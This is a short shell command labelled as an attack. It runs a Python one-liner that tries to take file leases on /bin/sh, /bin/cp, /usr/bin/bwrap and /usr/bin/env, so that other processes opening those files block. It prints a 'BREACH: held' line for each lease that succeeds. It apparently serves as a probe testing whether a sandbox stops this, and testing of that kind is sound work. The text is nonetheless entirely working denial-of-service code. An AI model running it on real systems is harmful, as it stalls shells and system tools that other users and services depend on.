# attack: leases on files of the system, so that all others wait who open them
python3 -c 'import fcntl, os, signal
signal.signal(signal.SIGIO, signal.SIG_IGN)
for path in ("/bin/sh", "/bin/cp", "/usr/bin/bwrap", "/usr/bin/env"):
    for kind in (0, 1):
        try: fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, kind); print("BREA" "CH: held", path)
        except OSError: pass'
